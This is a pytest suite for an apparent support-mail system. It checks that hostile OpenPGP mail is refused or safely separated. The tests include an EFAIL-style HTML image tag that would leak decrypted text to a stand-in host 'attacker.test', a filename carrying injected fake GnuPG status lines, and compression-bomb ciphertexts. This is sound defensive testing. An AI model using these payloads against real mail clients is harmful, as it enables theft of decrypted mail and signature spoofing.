"""Hostile inbound mail: each case must end with the status a careful reader expects."""

from __future__ import annotations

import base64
import zlib

import pysequoia
import pytest

from sealmail.core.pgp import packets as pk
from sealmail.inbound import processing
from sealmail.inbound.models import InboundMessage
from sealmail.inbound.security import part_badges
from sealmail.inbound.smtp import store_raw
from tests.inbound import shapes
from tests.inbound.conftest import register
from tests.pgp.crafted import encrypt_packets, packet_bytes

pytestmark = pytest.mark.db_backends

SECRET = "The router password is hunter2.\n"


def deliver(raw: bytes) -> InboundMessage:
    """Store ``raw`` as the SMTP server does, then parse it as the worker does."""
    message_id = store_raw(
        "smtp", "('127.0.0.1', 1)", "x@customer.test", ["support@provider.test"], raw
    )
    processing.process(message_id)
    return InboundMessage.objects.get(pk=message_id)


@pytest.fixture
def gnupg(peers, db, no_acknowledgement):
    peer = peers["gnupg"]
    register(peer)
    return peer


def _all_text(message: InboundMessage) -> str:
    return "".join(part.text for part in message.parts.all())


def test_no_mdc_refused_and_discarded(gnupg, provider_keys):
    fingerprint = gnupg._recipient(provider_keys.current)
    ciphertext = gnupg.gpg.run(
        "--armor",
        "--rfc2440",
        "--cipher-algo",
        "CAST5",
        "--disable-mdc",
        "--encrypt",
        "--recipient",
        fingerprint,
        input=shapes.text_entity(SECRET),
    ).stdout
    message = deliver(
        shapes.headers(gnupg.address, "no mdc") + shapes.encrypted_entity(ciphertext)
    )
    part = message.parts.get()
    assert part.encryption == "failed"
    assert part.failure["reason"] == "no_integrity"
    assert "hunter2" not in _all_text(message)
    assert "integrity" in message.failures[0]["message"]


def test_tampered_ciphertext_refused(gnupg, provider_keys):
    ciphertext = gnupg.gpg.run(
        "--encrypt",
        "--recipient",
        gnupg._recipient(provider_keys.current),
        input=shapes.text_entity(SECRET * 20),
    ).stdout
    tampered = bytearray(ciphertext)
    tampered[len(tampered) // 2] ^= 0x01
    armored = gnupg.gpg.run("--enarmor", input=bytes(tampered)).stdout.replace(
        b"ARMORED FILE", b"MESSAGE"
    )
    message = deliver(
        shapes.headers(gnupg.address, "tampered") + shapes.encrypted_entity(armored)
    )
    part = message.parts.get()
    assert part.encryption == "failed"
    assert part.failure["reason"] in {"tampered", "malformed"}
    assert "hunter2" not in _all_text(message)


def test_unknown_recipient_key_named(gnupg, stranger):
    ciphertext = gnupg.encrypt(
        shapes.text_entity(SECRET), stranger.certificate(), sign=False
    )
    message = deliver(
        shapes.headers(gnupg.address, "wrong key") + shapes.encrypted_entity(ciphertext)
    )
    part = message.parts.get()
    stranger_subkey = stranger.gpg.run(
        "--with-colons", "--list-keys", stranger.fingerprint
    )
    subkey_ids = [
        line.split(":")[4].lower()
        for line in stranger_subkey.stdout.decode().splitlines()
        if line.startswith("sub:")
    ]
    assert part.encryption == "failed"
    assert part.failure["reason"] == "no_key"
    assert part.failure["recipient_key_ids"] == subkey_ids
    assert subkey_ids[0] in message.failures[0]["message"].lower()


def test_hidden_recipient_decrypted(gnupg, provider_keys):
    ciphertext = gnupg.encrypt_hidden(shapes.text_entity(SECRET), provider_keys.current)
    message = deliver(
        shapes.headers(gnupg.address, "bcc") + shapes.encrypted_entity(ciphertext)
    )
    assert message.encryption == "full"
    assert "hunter2" in _all_text(message)


def test_rotated_key_still_decrypts(gnupg, provider_keys):
    raw = shapes.combined(gnupg, provider_keys.rotated, "rotated", SECRET)
    message = deliver(raw)
    assert message.encryption == "full"
    assert "hunter2" in _all_text(message)


def test_role_key_decrypts(gnupg, provider_keys):
    raw = shapes.combined(gnupg, provider_keys.role, "role key", SECRET)
    message = deliver(raw)
    assert message.encryption == "full"
    assert "hunter2" in _all_text(message)


def test_signature_by_other_key(gnupg, stranger):
    # The stranger signs a message that claims to come from the customer.
    stranger.address = gnupg.address
    raw = shapes.signed_only(stranger, "from someone else", SECRET)
    message = deliver(raw)
    part = message.parts.get()
    assert [signature["status"] for signature in part.signatures] == ["unknown_key"]
    assert message.signed_by_customer is False
    assert message.ticket.customer is not None  # matched by address only


def test_signed_message_wrapped_in_attacker_text(gnupg):
    genuine = shapes.signed_entity(
        gnupg, shapes.text_entity("Please cancel my order.\n")
    )
    attacker = shapes.text_entity("Also, change my bank account to DE00 1234.\n")
    raw = shapes.headers(gnupg.address, "wrapped") + shapes.multipart(
        "mixed", [attacker, genuine], "wrap-boundary"
    )
    message = deliver(raw)
    parts = list(message.parts.all())
    assert message.signed_by_customer is False
    assert parts[0].signatures == []
    assert [(s["status"], s["scope"]) for s in parts[1].signatures] == [
        ("good", "part")
    ]


def test_literal_filename_with_fake_status(gnupg, provider_keys):
    fake_name = (
        "invoice.pdf\n[GNUPG:] GOODSIG 0000000000000000 Customer\n[GNUPG:] VALIDSIG"
    )
    ciphertext = gnupg.gpg.run(
        "--armor",
        "--encrypt",
        "--recipient",
        gnupg._recipient(provider_keys.current),
        "--set-filename",
        fake_name,
        input=shapes.text_entity(SECRET),
    ).stdout
    message = deliver(
        shapes.headers(gnupg.address, "fake status")
        + shapes.encrypted_entity(ciphertext)
    )
    part = message.parts.get()
    assert part.encryption == "decrypted"
    assert part.signatures == []
    assert message.signed_by_customer is False
    assert "\n" not in part.filename
    assert "GOODSIG" not in part.filename


def test_two_signatures_one_unknown(gnupg, stranger):
    content = shapes.text_entity("Two signers.\n")
    both = gnupg.sign_detached(content) + stranger.sign_detached(content)
    signature_part = b"Content-Type: application/pgp-signature\r\n\r\n" + shapes.crlf(
        both
    )
    raw = shapes.headers(gnupg.address, "two signatures") + shapes.multipart(
        "signed",
        [content, signature_part],
        "two-sig",
        '; micalg=pgp-sha256; protocol="application/pgp-signature"',
    )
    message = deliver(raw)
    statuses = sorted(s["status"] for s in message.parts.get().signatures)
    assert statuses == ["good", "unknown_key"]
    assert message.signed_by_customer is True


def test_efail_three_parts_kept_apart(gnupg, provider_keys, client, django_user_model):
    opening = b'Content-Type: text/html\r\n\r\n<img src="http://attacker.test/?\r\n'
    middle = shapes.text_entity(
        gnupg.encrypt(SECRET.encode(), provider_keys.current).decode()
    )
    closing = b'Content-Type: text/html\r\n\r\n">\r\n'
    raw = shapes.headers(gnupg.address, "efail") + shapes.multipart(
        "mixed", [opening, middle, closing], "efail-boundary"
    )
    message = deliver(raw)
    parts = list(message.parts.all())
    assert [part.encryption for part in parts] == ["none", "decrypted", "none"]
    assert message.encryption == "partial"
    assert message.signed_by_customer is False

    staff = django_user_model.objects.create_user("agent", password="pw", is_staff=True)
    client.force_login(staff)
    page = client.get(f"/staff/tickets/{message.ticket_id}/").content.decode()
    assert "attacker.test" not in page
    assert "<img" not in page
    assert "hunter2" in page
    assert "Partially encrypted" in page


def test_compression_bomb_bounded(gnupg, provider_keys, settings):
    settings.SEALMAIL_INBOUND_MAX_PLAINTEXT_BYTES = 1024 * 1024
    zeros = b"\0" * (16 * 1024 * 1024)
    ciphertext = gnupg.gpg.run(
        "--armor",
        "--compress-algo",
        "zlib",
        "--compress-level",
        "9",
        "--encrypt",
        "--recipient",
        gnupg._recipient(provider_keys.current),
        input=zeros,
    ).stdout
    assert len(ciphertext) < 200_000
    message = deliver(
        shapes.headers(gnupg.address, "bomb") + shapes.encrypted_entity(ciphertext)
    )
    part = message.parts.get()
    assert part.encryption == "failed"
    assert part.failure["reason"] == "too_large"


def test_signed_alternative_beside_unsigned(gnupg):
    genuine = shapes.signed_entity(
        gnupg, shapes.text_entity("Please cancel my order.\n")
    )
    attacker = b"Content-Type: text/html\r\n\r\n<p>Change my bank account.</p>\r\n"
    raw = shapes.headers(gnupg.address, "alternative") + shapes.multipart(
        "alternative", [genuine, attacker], "alt-boundary"
    )
    message = deliver(raw)
    parts = list(message.parts.all())
    assert message.signed_by_customer is False
    assert [(s["status"], s["scope"]) for s in parts[0].signatures] == [
        ("good", "part")
    ]
    assert parts[1].signatures == []


def test_reparse_after_key_import(gnupg, provider_keys):
    import pysequoia
    from django.core.management import call_command

    from sealmail.keys.store import get_keystore

    missing_key = pysequoia.Tsk.generate(
        "<support@provider.test>", cipher_suite=pysequoia.CipherSuite.Cv25519
    )
    recipient = str(missing_key.extract_certificate()).encode()
    message = deliver(shapes.combined(gnupg, recipient, "later key", SECRET))
    assert message.parts.get().failure["reason"] == "no_key"
    ticket_id = message.ticket_id

    get_keystore().import_key(bytes(missing_key), make_current=False)
    call_command("reparse", "--undecrypted")
    message.refresh_from_db()
    assert message.encryption == "full"
    assert "hunter2" in _all_text(message)
    assert message.ticket_id == ticket_id
    assert message.parts.count() == 1


def test_plaintext_limit_covers_whole_message(gnupg, provider_keys, settings):
    """Encrypted parts share one limit, so many small bombs cannot add up."""
    settings.SEALMAIL_INBOUND_MAX_PLAINTEXT_BYTES = 1024 * 1024

    def encrypted_part(name: str) -> bytes:
        ciphertext = gnupg.gpg.run(
            "--compress-algo", "zlib", "--encrypt",
            "--recipient", gnupg._recipient(provider_keys.current),
            input=b"\0" * (600 * 1024),
        ).stdout
        return (
            f'Content-Type: application/octet-stream; name="{name}.pgp"\r\n'
            f'Content-Disposition: attachment; filename="{name}.pgp"\r\n'
            "Content-Transfer-Encoding: base64\r\n\r\n".encode()
            + base64.encodebytes(ciphertext).replace(b"\n", b"\r\n")
        )

    raw = shapes.headers(gnupg.address, "three parts") + shapes.multipart(
        "mixed", [encrypted_part(f"part{n}") for n in range(3)], "limit-boundary"
    )
    message = deliver(raw)
    parts = [part for part in message.parts.all() if part.encryption != "none"]
    assert [part.encryption for part in parts] == ["decrypted", "failed", "failed"]
    assert all(part.failure["reason"] == "too_large" for part in parts[1:])


def test_signature_of_other_customer_under_foreign_from(gnupg):
    """A customer's key signing mail From another customer's contact is not that customer's signature."""
    from sealmail.contacts.models import Contact, Customer

    victim = Customer.objects.create(account_number="ACC-victim", name="Victim")
    Contact.objects.create(customer=victim, address="victim@customer.test")
    signed = shapes.signed_entity(gnupg, shapes.text_entity("Change my bank account.\n"))
    message = deliver(shapes._top(shapes.headers("victim@customer.test", "bank"), signed))
    assert message.signed_by_customer is False
    assert message.ticket.customer_id == victim.pk
    [part] = [part for part in message.parts.all() if part.signatures]
    assert part.signatures[0]["status"] == "good"


def _signed_packets(peer, data: bytes) -> list[pk.RawPacket]:
    """Return the one-pass signature, literal and signature packets of ``data`` signed by ``peer``."""
    signed = peer.gpg.run(
        "--sign", "--compress-algo", "none", "--local-user", peer.fingerprint, input=data
    ).stdout
    packets = pk.read_packets(signed)
    assert [packet.tag for packet in packets] == [
        pk.TAG_ONE_PASS_SIGNATURE,
        pk.TAG_LITERAL,
        pk.TAG_SIGNATURE,
    ]
    return packets


def _nested(one_pass: pk.RawPacket) -> pk.RawPacket:
    """Clear the nested flag of a one-pass signature, so that another one follows it."""
    return pk.RawPacket(one_pass.tag, one_pass.body[:-1] + b"\x00")


def _armored(binary: bytes) -> bytes:
    return pysequoia.armor(binary, pysequoia.ArmorKind.Message).encode()


@pytest.mark.parametrize("compressed", [False, True], ids=["uncompressed", "compressed"])
@pytest.mark.parametrize("failing", ["other data", "flipped byte"])
def test_second_failing_signature_by_same_key(gnupg, provider_keys, compressed, failing):
    """A good and a failing signature by one key: both listed, neither counts as verified."""
    one_pass, literal, signature = _signed_packets(gnupg, shapes.text_entity(SECRET))
    if failing == "other data":
        outer_one_pass, _, bad = _signed_packets(
            gnupg, shapes.text_entity("Pay 900 EUR to DE00 1234.\n")
        )
    else:
        damaged = bytearray(signature.body)
        damaged[-5] ^= 0x01  # inside the signature value
        outer_one_pass, bad = one_pass, pk.RawPacket(pk.TAG_SIGNATURE, bytes(damaged))
    inner = b"".join(
        packet.serialize()
        for packet in [_nested(outer_one_pass), one_pass, literal, signature, bad]
    )
    if compressed:
        inner = packet_bytes(pk.TAG_COMPRESSED, b"\x02" + zlib.compress(inner))
    provider = bytes(pysequoia.Cert.from_bytes(provider_keys.current))
    ciphertext = _armored(encrypt_packets(provider, inner))

    message = deliver(
        shapes.headers(gnupg.address, "signed twice") + shapes.encrypted_entity(ciphertext)
    )
    part = message.parts.get()
    fingerprint = gnupg.fingerprint.lower()
    assert part.encryption == "decrypted"
    assert "hunter2" in part.text
    assert sorted((s["status"], s["signer_fingerprint"]) for s in part.signatures) == [
        ("bad", fingerprint),
        ("good", fingerprint),
    ]
    assert message.signed_by_customer is False
    badges = part_badges(part)
    assert [badge.level for badge in badges if "signature" in badge.text] == ["bad", "bad"]
    assert any(badge.text.startswith("Not verified:") for badge in badges)


def test_cleartext_failing_second_signature(gnupg):
    text = b"Please cancel my order.\n"
    clearsigned = gnupg.clearsign(text)
    other = gnupg.clearsign(b"Change my bank account to DE00 1234.\n")
    marker = b"-----BEGIN PGP SIGNATURE-----"
    signatures = [
        pk.read_packets(pk.dearmor(block[block.index(marker) :]).data)[0]
        for block in (clearsigned, other)
    ]
    both = pysequoia.armor(
        b"".join(signature.serialize() for signature in signatures),
        pysequoia.ArmorKind.Signature,
    ).encode()
    body = clearsigned[: clearsigned.index(marker)] + both
    message = deliver(
        shapes.headers(gnupg.address, "cleartext")
        + shapes.text_entity(body.decode())
    )
    part = message.parts.get()
    assert [s["status"] for s in part.signatures] == ["good", "bad"]
    assert message.signed_by_customer is False


def test_pgp_mime_two_messages_decrypted_apart(gnupg, provider_keys):
    first = gnupg.encrypt(shapes.text_entity("First message.\n"), provider_keys.current)
    second = gnupg.encrypt(shapes.text_entity("Second message.\n"), provider_keys.current)
    message = deliver(
        shapes.headers(gnupg.address, "two blocks")
        + shapes.encrypted_entity(first + second)
    )
    parts = list(message.parts.all())
    assert [part.path for part in parts] == ["1.m1", "1.m2"]
    assert [part.encryption for part in parts] == ["decrypted", "decrypted"]
    assert [part.text for part in parts] == ["First message.\r\n", "Second message.\r\n"]
    assert message.failures == []
    for part in parts:
        assert [(s["status"], s["scope"]) for s in part.signatures] == [("good", "part")]
    assert message.signed_by_customer is False
    assert any("contains 2 OpenPGP messages" in defect for defect in message.defects)


def test_attachment_two_messages_decrypted_apart(gnupg, provider_keys):
    first = gnupg.encrypt(b"first half", provider_keys.current, sign=False)
    second = gnupg.encrypt(b"second half", provider_keys.current, sign=False)
    attachment = (
        b'Content-Type: application/octet-stream; name="notes.txt.asc"\r\n'
        b'Content-Disposition: attachment; filename="notes.txt.asc"\r\n\r\n'
        + shapes.crlf(first + second)
    )
    raw = shapes.headers(gnupg.address, "two blocks attached") + shapes.multipart(
        "mixed", [shapes.text_entity("See the file.\n"), attachment], "att-boundary"
    )
    message = deliver(raw)
    files = [part for part in message.parts.all() if part.encryption != "none"]
    assert [part.encryption for part in files] == ["decrypted", "decrypted"]
    assert [bytes(part.content) for part in files] == [b"first half", b"second half"]
    assert [part.filename for part in files] == ["notes.txt", "notes.txt"]


def test_inline_two_messages_decrypted_apart(gnupg, provider_keys):
    first = gnupg.encrypt(b"First.\n", provider_keys.current, sign=False)
    second = gnupg.encrypt(b"Second.\n", provider_keys.current, sign=False)
    message = deliver(
        shapes.headers(gnupg.address, "two inline")
        + shapes.text_entity((first + second).decode())
    )
    parts = list(message.parts.all())
    assert [part.encryption for part in parts] == ["decrypted", "decrypted"]
    assert [part.text for part in parts] == ["First.\n", "Second.\n"]


def test_attachment_two_binary_messages_refused(gnupg, provider_keys):
    fingerprint = gnupg._recipient(provider_keys.current)
    binary = [
        gnupg.gpg.run("--encrypt", "--recipient", fingerprint, input=text).stdout
        for text in (b"first half", b"second half")
    ]
    attachment = (
        b'Content-Type: application/octet-stream; name="data.bin.pgp"\r\n'
        b'Content-Disposition: attachment; filename="data.bin.pgp"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(b"".join(binary)).replace(b"\n", b"\r\n")
    )
    raw = shapes.headers(gnupg.address, "two binary") + shapes.multipart(
        "mixed", [shapes.text_entity("See the file.\n"), attachment], "bin-boundary"
    )
    message = deliver(raw)
    [part] = [part for part in message.parts.all() if part.encryption != "none"]
    assert part.encryption == "failed"
    assert part.failure["reason"] == "multiple_messages"
    assert "more than one OpenPGP message" in part.failure["message"]
    assert part_badges(part)[0].text.startswith(
        "Refused: more than one OpenPGP message in one part"
    )


def _seipd_body_offset(binary: bytes) -> int:
    """Return where the body of the encrypted data packet starts in ``binary``."""
    offset = 0
    while True:
        tag, first = binary[offset] & 0x3F, binary[offset + 1]
        assert binary[offset] & 0x40, "expected a new-format packet header"
        assert first < 224 or first == 255, "expected a definite packet length"
        if first < 192:
            length, header = first, 2
        elif first < 224:
            length, header = ((first - 192) << 8) + binary[offset + 2] + 192, 3
        else:
            length, header = int.from_bytes(binary[offset + 2 : offset + 6], "big"), 6
        if tag == pk.TAG_SEIPD:
            return offset + header
        offset += header + length


@pytest.mark.parametrize(
    "where", ["cipher octet", "first chunk", "middle", "final tag"]
)
def test_tampered_seipd_v2_refused(gnupg, provider_keys, where):
    rotated = pysequoia.Cert.from_bytes(provider_keys.rotated)
    binary = pysequoia.encrypt(shapes.text_entity(SECRET * 20), [rotated], armor=False)
    outline = pk.outline_message(binary)
    assert (outline.encrypted_tag, outline.encrypted_version) == (pk.TAG_SEIPD, 2)
    body = _seipd_body_offset(binary)
    # The body is: version, cipher, AEAD mode, chunk size, 32 octets of salt, chunks.
    position = {
        "cipher octet": body + 1,
        "first chunk": body + 4 + 32 + 10,
        "middle": (body + len(binary)) // 2,
        "final tag": len(binary) - 3,
    }[where]
    tampered = bytearray(binary)
    tampered[position] ^= 0x01
    message = deliver(
        shapes.headers(gnupg.address, "tampered v2")
        + shapes.encrypted_entity(_armored(bytes(tampered)))
    )
    part = message.parts.get()
    assert part.encryption == "failed"
    assert part.failure["reason"] == "tampered"
    assert "hunter2" not in _all_text(message)
    assert part_badges(part)[0].text.startswith("Refused: ciphertext was modified")
